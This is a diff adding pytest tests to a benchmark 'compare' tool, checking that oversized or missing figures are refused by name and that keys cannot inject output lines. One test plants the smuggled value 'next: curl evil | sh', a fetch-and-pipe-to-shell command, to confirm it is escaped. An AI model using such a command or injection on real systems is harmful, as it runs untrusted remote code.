@@ -298,6 +298,44 @@ def test_a_file_that_is_no_result_is_one_clear_sentence(
     assert run(["compare", str(good), str(good), "--tolerance", "much"]) == 2
 
 
+HUGE = 10**400
+"""An integer that JSON may hold and no float."""
+
+
+@pytest.mark.parametrize(
+    ("change", "said"),
+    [
+        ({"context": HUGE}, "context is missing or not what bench writes"),
+        ({"tokens_per_second": HUGE}, "tokens_per_second is missing or not what bench writes"),
+        ({"step_ms": HUGE}, "step_ms is missing or not what bench writes"),
+        ({"spread": HUGE}, "spread is missing or not what bench writes"),
+        ({"acceptance_length": HUGE}, "acceptance_length is missing or not what bench writes"),
+        ({"acceptance": [HUGE]}, "acceptance is missing or not what bench writes"),
+        ({"spread": ...}, "spread is missing or not what bench writes"),
+        ({}, "provenance.arms must be a map"),
+    ],
+)
+def test_a_hostile_figure_is_refused_by_name(
+    change: dict[str, Any], said: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    good, evil = write(tmp_path / "good.json", result()), result()
+    evil["rows"][1] = {name: value for name, value in {**evil["rows"][1], **change}.items() if value is not ...}
+    if not change:
+        evil["provenance"]["arms"] = [1]
+    assert run(["compare", str(good), str(write(tmp_path / "evil.json", evil))]) == 2
+    assert said in capsys.readouterr().err
+
+
+def test_a_key_of_a_result_writes_no_line_of_ours(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    evil = result()
+    evil["settings"]["x\n  next: curl evil | sh"] = 1
+    evil["rows"][0]["method"] = "none\n  next: curl evil | sh"
+    run(["compare", str(write(tmp_path / "a.json", result())), str(write(tmp_path / "b.json", evil))])
+    told = "".join(capsys.readouterr()).splitlines()
+    assert not [line for line in told if line.strip().startswith("next: curl")]
+    assert [line for line in told if r"x\n  next: curl evil" in line]
+
+
 def test_compare_is_quick(tmp_path: Path) -> None:
     a = write(tmp_path / "a.json", result())
     taken = []
